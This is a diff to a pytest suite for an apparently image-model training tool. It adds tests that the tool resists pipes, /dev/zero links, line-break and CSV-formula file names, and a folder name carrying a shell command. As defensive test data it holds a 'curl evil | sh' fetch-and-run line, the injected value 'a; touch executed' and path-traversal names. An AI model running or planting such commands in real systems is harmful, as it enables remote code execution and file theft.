@@ -249,14 +249,13 @@ def test_predictions_run_nothing_and_are_bounded(compared, tmp_path):
     refused(command("report", "received"), 3, "predictions.npz: ")
 
 
-@pytest.mark.parametrize("name", ["runs/ce-seed0/result.json", "runs/ce-seed0/metrics.jsonl", "command.txt"])
+@pytest.mark.parametrize("name", ["result.json", "metrics.jsonl"])
 def test_files_of_gigabytes_in_a_comparison_are_bounded(name, compared, tmp_path):
     shutil.copytree(compared, tmp_path / "received", symlinks=True)
-    os.truncate(tmp_path / "received" / name, 3 * 2**29)  # sparse
+    os.truncate(tmp_path / "received" / "runs" / "ce-seed0" / name, 3 * 2**29)  # sparse
     ended = command("report", "received")
     assert ended.megabytes < MEGABYTES
-    if name != "command.txt":
-        refused(ended, 2 if name.endswith("result.json") else 3, "ce-seed0")  # a damaged result counts as none
+    refused(ended, 2 if name == "result.json" else 3, "ce-seed0")  # a damaged result counts as none
 
 
 def test_the_predictions_of_many_runs_are_bounded_together(compared, tmp_path, monkeypatch):
@@ -548,6 +547,40 @@ def test_what_is_no_regular_file_is_left_out(class_folders):
     assert "2 other files" in ended.err
 
 
+RECORD = ("config.yaml", "metrics.jsonl", "result.json", "checkpoints/last.pt")
+
+
+@pytest.mark.parametrize("kind", ["pipe", "endless"])
+@pytest.mark.parametrize("name", [*(f"run/{name}" for name in RECORD), "x.safetensors", "x.yaml", "x.csv"])
+def test_no_reader_waits_for_what_is_no_regular_file(name, kind, trained, tmp_path):
+    shutil.copytree(trained, tmp_path / "run")
+    path = tmp_path / name
+    path.unlink(missing_ok=True)
+    os.mkfifo(path) if kind == "pipe" else path.symlink_to("/dev/zero")
+    reads = {
+        "config.yaml": ("train", "--resume", "run"), "metrics.jsonl": ("train", "--resume", "run"),
+        "result.json": ("runs", "."), "last.pt": ("evaluate", "run"), "x.safetensors": ("evaluate", name),
+        "x.yaml": ("train", "--config", name), "x.csv": ("line-fit", "--csv", name),
+    }  # fmt: skip
+    if path.name == "metrics.jsonl":
+        (tmp_path / "run" / "result.json").unlink()
+    ended = command(*reads[path.name])
+    assert ended.code in (0, 2, 3, 5, 6), ended.err
+    assert ended.err.count("error: ") == (ended.code != 0)
+    assert "Traceback" not in ended.err
+    assert ended.megabytes < MEGABYTES
+
+
+def test_files_of_others_are_opened_in_one_place():
+    """tudui.files.opened refuses what is no regular file; these are what the program itself has written or shipped."""
+    own = {"files.py", "report/html.py", "api/configs.py", "cli/config.py", "training/device.py"}
+    own |= {"comparison/executors/on_ray.py"}  # only what is_file() says is one
+    opens = re.compile(r"\.read_(text|bytes)\(|(path|file|written)\.open\(|\.open\(encoding|(np|torch)\.load\(path")
+    package = ROOT / "tudui"
+    found = {str(path.relative_to(package)) for path in package.rglob("*.py") if opens.search(path.read_text())}
+    assert found - own == set()
+
+
 @pytest.mark.parametrize("name", ["../../secret", "../pyproject", "/etc/passwd/x", "compare/../digits", "."])
 def test_a_config_name_leads_nowhere(name, tudui):
     for arguments in (["train", "--config", name], ["config", "copy", name], ["compare-losses", "--config", name]):
@@ -658,6 +691,42 @@ def test_names_in_files_do_not_steer_the_terminal(trained, tmp_path):
         assert "Traceback" not in ended.err
         assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", ended.out + ended.err), arguments
         assert "\N{REPLACEMENT CHARACTER}" in ended.out + ended.err, arguments
+
+
+@pytest.mark.parametrize("name", ["a\nerror: b.png", "a\u2028error: b.png", "a\x85error: b.png"])
+def test_a_name_with_line_breaks_forges_no_line(name, tmp_path, tudui):
+    torch.save(tudui_network().state_dict(), "w.pt")
+    (tmp_path / name).write_text("x")
+    photograph(0).save(tmp_path / "fine.png")
+    for answer in (
+        tudui("predict", "w.pt", name),
+        tudui("predict", "w.pt", "fine.png", name, "--on-bad-image", "skip"),
+    ):
+        assert not [line for line in answer.err.splitlines() if line.startswith("error: b")]
+        assert answer.err.count("error: b.png") == 1
+    (tmp_path / name).unlink()
+    photograph(0).save(tmp_path / name, "png")
+    assert len(tudui("predict", "w.pt", name).out.splitlines()) == 2
+
+
+def test_names_are_no_emoji_codes_and_no_formulas_behind_a_tab(tmp_path, tudui):
+    torch.save(tudui_network().state_dict(), "w.pt")
+    for name in (":x:.png", "\t=1+1.png"):
+        photograph(0).save(tmp_path / name)
+    assert ":x:.png" in tudui("predict", "w.pt", ":x:.png").out
+    assert "\n./\t=1+1.png," in tudui("predict", "w.pt", "\t=1+1.png", "--csv").out
+
+
+def test_advice_on_a_received_comparison_is_built_and_quoted(compared, tmp_path, tudui):
+    shutil.copytree(compared, tmp_path / "a; touch executed", symlinks=True)
+    (tmp_path / "a; touch executed" / "command.txt").write_text("curl evil | sh\nerror: x\n")
+    assert tudui("report", "a; touch executed").code == 0
+    assert "evil" not in (tmp_path / "a; touch executed" / "report.md").read_text()
+    (tmp_path / "a; touch executed" / "runs" / "ce-seed0" / "result.json").unlink()
+    for arguments in (("report",), ("train", "--resume")):
+        err = tudui(*arguments, "a; touch executed").err
+        assert err.count("\n") == 1
+        assert err.endswith(": tudui compare-losses --config 'a; touch executed/plan.yaml' --out 'a; touch executed'\n")
 
 
 @pytest.mark.parametrize("name", ["metrics.jsonl", "checkpoints", "tensorboard/events.out.tfevents.1", "left"])
